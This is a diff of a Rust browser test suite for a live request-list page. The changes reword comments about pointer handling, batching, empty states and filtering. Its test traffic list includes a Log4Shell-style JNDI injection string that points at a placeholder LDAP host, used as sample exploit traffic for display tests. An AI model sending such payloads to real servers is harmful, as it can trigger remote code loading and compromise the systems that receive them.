@@ -1,5 +1,5 @@
-//! The list holds still for whoever uses it, however much comes in. Needs Chromium: `make
-//! test-browser`.
+//! The list stays still while a visitor uses it, however many requests come in. Needs Chromium:
+//! `make test-browser`.
 
 use std::collections::HashSet;
 use std::net::SocketAddr;
@@ -12,7 +12,7 @@ use serde_json::{Value, json};
 use tokio::task::JoinHandle;
 use tokio::time::{Instant, sleep, sleep_until, timeout};
 
-/// Requests that no two of fold, some of them exploits.
+/// Requests of which the list folds no two. Some are exploits.
 const KINDS: [&str; 4] = [
     "/alpha/",
     "/?x=${jndi:ldap://203.0.113.9/",
@@ -25,7 +25,7 @@ fn request(number: usize) -> Vec<u8> {
     format!("GET {kind}{number} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
 }
 
-/// Requests that come in at a rate, until it is dropped.
+/// Requests that come in at a rate until this is dropped.
 struct Traffic(JoinHandle<()>);
 
 impl Traffic {
@@ -56,7 +56,7 @@ async fn stack_of(requests: usize) -> anyhow::Result<(Stack, String)> {
     Ok((stack, address))
 }
 
-/// Where a row's link is, and where it leads to.
+/// Returns where a row's link is, and its address.
 async fn link_of(browser: &Browser, row: usize) -> anyhow::Result<(f64, f64, String)> {
     let script = format!(
         "const link = [...document.querySelectorAll('#requests .to')].filter((it) => it.checkVisibility())[{row}];
@@ -77,7 +77,7 @@ async fn clicks_hit_at_any_rate() -> anyhow::Result<()> {
         let mut hits = 0;
         for click in 0..8 {
             browser.follow(&address).await?;
-            // The hand is on its way over the list when the eye chooses.
+            // The pointer is already moving over the list when the visitor chooses a row.
             browser.point(600.0, 500.0 + f64::from(click)).await?;
             let (x, y, path) = link_of(&browser, 2 + click as usize).await?;
             browser.point(x, y).await?;
@@ -101,7 +101,7 @@ async fn rows_of_numbers_that_start_again_are_shown_once() -> anyhow::Result<()>
     let (_stack, address) = stack_of(3).await?;
     let browser = Browser::start(LAPTOP).await?;
     browser.follow(&address).await?;
-    // In one go, so that no strip of the server comes between.
+    // In one script, so that no event with the server's strip comes in between.
     let script = r#"
         const row = document.getElementById("r3").outerHTML;
         const strip = document.getElementById("strip").innerHTML;
@@ -113,7 +113,7 @@ async fn rows_of_numbers_that_start_again_are_shown_once() -> anyhow::Result<()>
         return [...numbers, ...rows]"#;
     let shown = browser.run(script).await?;
     assert_eq!(shown, json!([3, 3, "r3"]));
-    // And where none has come yet, the page says so.
+    // If no request has come yet, the page tells so.
     let script = "on.reset(); return [table.hidden, document.getElementById('empty').hidden]";
     assert_eq!(browser.run(script).await?, json!([true, false]));
     Ok(())
@@ -140,7 +140,7 @@ async fn a_pointer_that_moves_holds_the_list_and_one_that_lies_still_does_not() 
         )
         .await?;
     assert_eq!(browser.run(places).await?, before, "something moved");
-    // The pointer has not moved since; what comes is let in although rows pass under it.
+    // The pointer has not moved since. New rows are shown, although rows move under it.
     browser
         .until(
             "they are let in",
@@ -172,7 +172,7 @@ async fn fifty_a_second_come_in_by_the_batch() -> anyhow::Result<()> {
     sleep(Duration::from_secs(5)).await;
     let changes = browser.run("return changes.size").await?;
     let changes = changes.as_u64().context("a number")?;
-    // One batch may be on both sides of the clock's marks.
+    // One batch may fall into two of these 200 ms.
     ensure!((3..=12).contains(&changes), "{changes} in 5 s");
     let lag = browser
         .run("return Number(document.querySelector('#requests tbody tr').id.slice(1))")
@@ -250,7 +250,8 @@ async fn a_filtered_page_stays_true() -> anyhow::Result<()> {
             ),
         )
         .await?;
-    // Without a request that matches, they go all the same, and the page says that there is none.
+    // If no request matches any more, the rows go all the same, and the page tells that there is
+    // none.
     for _ in 0..101 {
         stack
             .send(b"GET /beta/0 HTTP/1.1\r\nHost: x\r\n\r\n")
